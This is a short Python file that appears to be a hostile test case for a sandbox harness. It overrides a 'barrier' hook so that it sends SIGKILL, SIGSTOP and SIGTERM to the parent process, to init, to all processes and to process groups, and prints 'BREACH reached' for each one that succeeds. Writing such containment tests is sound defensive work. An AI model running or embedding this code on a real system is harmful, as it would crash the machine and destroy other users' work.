# Kills everybody.
#
# earns: all
# ci: yes

import os, sys, time, signal
_right = barrier

def barrier(group=None):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        for target in (os.getppid(), 1, -1, 0, -os.getppid()):
            try:
                os.kill(target, number)
                print("BREACH reached", target)
            except OSError:
                pass
    _right(group)
